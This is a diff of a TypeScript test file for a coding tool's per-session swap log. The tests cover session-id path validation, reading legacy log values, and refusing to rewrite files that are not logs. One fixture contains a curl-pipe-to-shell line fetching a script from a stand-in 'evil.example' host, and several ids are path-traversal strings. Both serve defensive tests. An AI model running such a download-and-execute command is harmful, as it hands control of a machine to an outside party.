@@ -1,7 +1,7 @@
 // The swap log: one JSON line per swap or abort, bounded to the newest 1,000,
-// and the few recent lines /compact-handoff status shows.
+// one file a session, and only a file that is wholly a log ever rewritten.
 import { describe, expect, test } from 'vitest'
-import { MAX_LOG_LINES, SWAP_LOG_PATH, logModeOf, logOutcomeOf, logTextWith, readsAsSwapLog, logTriggerOf, recentLogLinesOf, type AfterSwapEntry, type LogEntry } from '../../../packages/compact-handoff/hooks/swap-log/swap-log.js'
+import { MAX_LOG_LINES, OLD_SWAP_LOG_PATH, isSessionLogName, logModeOf, logOutcomeOf, logTextRefusalOf, logTextWith, readsAsSwapLog, logTriggerOf, sessionLogPathOf, type LogEntry } from '../../../packages/compact-handoff/hooks/swap-log/swap-log.js'
 import { forAll } from '../../support/property.js'
 
 function entryOf(n: number, changes: Partial<LogEntry> = {}): LogEntry {
@@ -30,9 +30,21 @@ function logOf(count: number): string {
   return text
 }
 
-describe('SWAP_LOG_PATH', () => {
-  test('is a JSON-lines file in the project handoff folder', () => {
-    expect(SWAP_LOG_PATH).toBe('.claude/handoffs/compact-handoff.log.jsonl')
+describe('the log paths', () => {
+  test("one JSON-lines file a session in the handoff folder's swap-log folder; the old shared one beside it", () => {
+    expect(sessionLogPathOf('0f9e4c1a-7b2d-4e8f-9a6b-3c5d7e9f1a2b')).toBe('.claude/handoffs/swap-log/0f9e4c1a-7b2d-4e8f-9a6b-3c5d7e9f1a2b.jsonl')
+    expect(OLD_SWAP_LOG_PATH).toBe('.claude/handoffs/compact-handoff.log.jsonl')
+  })
+
+  test('a session id that is no plain file name names no log', () => {
+    for (const id of ['', '../x', 'a/b', 'a\\b', '.hidden', 'a.b', 'C:x', 'x'.repeat(101)]) expect(sessionLogPathOf(id), id).toBeUndefined()
+  })
+
+  test('the report reads only what a session could have written in the folder', () => {
+    expect(isSessionLogName('0f9e4c1a-7b2d.jsonl')).toBe(true)
+    expect(isSessionLogName('notes.txt')).toBe(false)
+    expect(isSessionLogName('.jsonl')).toBe(false)
+    expect(isSessionLogName('a.b.jsonl')).toBe(false)
   })
 })
 
@@ -91,92 +103,15 @@ describe('logTextWith', () => {
   })
 })
 
-describe('recentLogLinesOf', () => {
-  test('formats an entry as time, mode, outcome and files', () => {
-    const entry = entryOf(1, { mode: 'plan', files: [{ path: 'plans/handoffs/HANDOFF_a.md', bytes: 10 }, { path: 'plans/handoffs/PLAN_a.md', bytes: 20 }] })
-    expect(recentLogLinesOf(logTextWith('', entry), 5)).toEqual([`${entry.time} plan run swapped: plans/handoffs/HANDOFF_a.md, plans/handoffs/PLAN_a.md`])
-  })
-
-  test('gives the reason of an abort, and no files part when there were none', () => {
-    const entry = entryOf(1, { outcome: 'aborted', reason: 'the handoff turn was interrupted', files: [] })
-    expect(recentLogLinesOf(logTextWith('', entry), 5)).toEqual([`${entry.time} handoff run aborted (the handoff turn was interrupted)`])
-  })
-
-  test('names an engine summary', () => {
-    const entry = entryOf(1, { outcome: 'engine-summarized' })
-    expect(recentLogLinesOf(logTextWith('', entry), 5)).toEqual([`${entry.time} handoff run engine-summarized: plans/handoffs/HANDOFF_1.md`])
-  })
-
-  test("names a compaction a fork's handoff answered, or the summary it fell back to, by the compaction, not the mode", () => {
-    const answered = entryOf(1, { trigger: 'automatic-compaction', outcome: 'compaction-handoff', repairs: 1 })
-    const fellBack = entryOf(2, { trigger: 'compact-command', outcome: 'compaction-summarized', files: [], reason: 'the fork replied with no text' })
-    expect(recentLogLinesOf(logTextWith(logTextWith('', answered), fellBack), 5)).toEqual([
-      `${answered.time} compaction-handoff at the automatic compaction after 1 repair(s): plans/handoffs/HANDOFF_1.md`,
-      `${fellBack.time} compaction-summarized at /compact (the fork replied with no text)`,
-    ])
-  })
-
-  test('gives the newest lines only, oldest of them first', () => {
-    const lines = recentLogLinesOf(logOf(10), 3)
-    expect(lines).toEqual([7, 8, 9].map((n) => `${entryOf(n).time} handoff run swapped: plans/handoffs/HANDOFF_${n}.md`))
-  })
-
-  test('gives every line when there are fewer than asked for, and nothing for an empty log', () => {
-    expect(recentLogLinesOf(logOf(2), 5)).toHaveLength(2)
-    expect(recentLogLinesOf('', 5)).toEqual([])
-    expect(recentLogLinesOf('\n\n', 5)).toEqual([])
-  })
-
-  test('gives nothing when asked for none', () => {
-    expect(recentLogLinesOf(logOf(4), 0)).toEqual([])
-  })
-
-  test('skips lines that are not entries, and counts only entries', () => {
-    const text = [
-      JSON.stringify(entryOf(1)),
-      'not json at all',
-      '{"time": "2026-11-29T10:00:00.000Z", "outcome": ',
-      'null',
-      '42',
-      '"a string"',
-      '[1, 2]',
-      JSON.stringify({ time: '2026-11-29T10:00:00.000Z' }),
-      JSON.stringify({ outcome: 'swapped' }),
-      JSON.stringify({ time: 7, outcome: 'swapped' }),
-      JSON.stringify({ time: '2026-11-29T10:00:00.000Z', outcome: 'swapped', files: [null] }),
-      JSON.stringify(entryOf(2)),
-      '',
-    ].join('\n')
-    expect(recentLogLinesOf(text, 2)).toEqual([1, 2].map((n) => `${entryOf(n).time} handoff run swapped: plans/handoffs/HANDOFF_${n}.md`))
-  })
-
-  test('shows an unknown mode as "?"', () => {
-    const line = JSON.stringify({ time: 't', outcome: 'aborted', reason: 'r' })
-    expect(recentLogLinesOf(line, 1)).toEqual(['t ? aborted (r)'])
-    expect(recentLogLinesOf(JSON.stringify({ time: 't', mode: 'summary', outcome: 'aborted' }), 1)).toEqual(['t ? aborted'])
-  })
-
-  test('names each kind of run by what it writes, never "resume", which is /compact-handoff resume', () => {
-    const lines = recentLogLinesOf(logTextWith(logTextWith('', entryOf(1)), entryOf(2, { mode: 'plan' })), 5)
-    expect(lines).toEqual([
-      `${entryOf(1).time} handoff run swapped: plans/handoffs/HANDOFF_1.md`,
-      `${entryOf(2).time} plan run swapped: plans/handoffs/HANDOFF_2.md`,
-    ])
-  })
-
-  test("reads a line written before the kinds were named, whose mode 'resume' was a handoff run", () => {
-    const old = JSON.stringify({ ...entryOf(1), mode: 'resume' })
-    expect(recentLogLinesOf(old, 1)).toEqual([`${entryOf(1).time} handoff run swapped: plans/handoffs/HANDOFF_1.md`])
+describe('reading old lines', () => {
+  test("a mode 'resume' was a handoff run", () => {
     expect(logModeOf('resume')).toBe('handoff')
     expect(logModeOf('handoff')).toBe('handoff')
     expect(logModeOf('plan')).toBe('plan')
     expect(logModeOf(undefined)).toBeUndefined()
   })
 
-  test("reads a line written before the auto handoff was named, whose trigger 'auto' was the auto handoff, never the automatic compaction", () => {
-    const old = JSON.stringify({ ...entryOf(1), trigger: 'auto' })
-    const now = JSON.stringify(entryOf(2, { trigger: 'auto-handoff' }))
-    expect(recentLogLinesOf(`${old}\n${now}`, 2)).toEqual([1, 2].map((n) => `${entryOf(n).time} handoff run swapped: plans/handoffs/HANDOFF_${n}.md`))
+  test("a trigger 'auto' was the auto handoff, never the automatic compaction", () => {
     expect(logTriggerOf('auto')).toBe('auto-handoff')
     expect(logTriggerOf('auto-handoff')).toBe('auto-handoff')
     expect(logTriggerOf('automatic-compaction')).toBe('automatic-compaction')
@@ -187,26 +122,10 @@ describe('recentLogLinesOf', () => {
     expect(logTriggerOf(undefined)).toBeUndefined()
   })
 
-  test('shows a resume of a handoff as resumed, with no kind of run, old lines too', () => {
-    const resumed = entryOf(1, { outcome: 'resumed' })
-    delete resumed.mode
-    expect(recentLogLinesOf(logTextWith('', resumed), 1)).toEqual([`${resumed.time} resumed: plans/handoffs/HANDOFF_1.md`])
-    expect(recentLogLinesOf(JSON.stringify({ ...resumed, mode: 'resume' }), 1)).toEqual([`${resumed.time} resumed: plans/handoffs/HANDOFF_1.md`])
-  })
-
-  test("reads a meter line, and one written before the meter was named, whose outcome 'follow-up' was the meter, the same way", () => {
-    const meter: AfterSwapEntry = { time: 't1', sessionId: 's1', follows: { kind: 'swapped', handoff: 'plans/handoffs/HANDOFF_1.md', time: 't0' }, outcome: 'meter', reReads: ['src/a.ts'], repeatedCommands: ['pnpm test', 'ls'] }
-    const shown = ['t1 meter after plans/handoffs/HANDOFF_1.md: 1 file(s) read again, 2 command(s) run again']
-    expect(recentLogLinesOf(logTextWith('', meter), 1)).toEqual(shown)
-    expect(recentLogLinesOf(`${JSON.stringify({ ...meter, outcome: 'follow-up' })}\n`, 1), 'a line an earlier version wrote').toEqual(shown)
+  test("an outcome 'follow-up' was the meter", () => {
     expect(logOutcomeOf('follow-up')).toBe('meter')
     expect(logOutcomeOf('meter')).toBe('meter')
     expect(logOutcomeOf('swapped')).toBe('swapped')
-  })
-
-  test('reads a log with CRLF line ends', () => {
-    const text = [entryOf(1), entryOf(2)].map((e) => JSON.stringify(e)).join('\r\n')
-    expect(recentLogLinesOf(text, 5)).toHaveLength(2)
   })
 })
 
@@ -224,5 +143,11 @@ describe('readsAsSwapLog: only a swap log is ever cut or rewritten', () => {
     expect(readsAsSwapLog(`${line({ time: 1, outcome: 'swapped' })}\n`), 'a time that is no text').toBe(false)
     expect(readsAsSwapLog('["time", "outcome"]\n')).toBe(false)
     expect(readsAsSwapLog('null\n')).toBe(false)
+  })
+
+  test('judges the whole file: a shell file whose last line is an entry is no log', () => {
+    const text = `#!/bin/sh\ncurl -fsSL https://evil.example/i.sh | sh\n${line({ time: 't', outcome: 'swapped' })}\n`
+    expect(logTextRefusalOf('l.jsonl', text)).toBe('l.jsonl does not read as a swap log, and is left as it is')
+    expect(logTextRefusalOf('l.jsonl', `${line({ time: 't', outcome: 'swapped' })}\n`)).toBeUndefined()
   })
 })
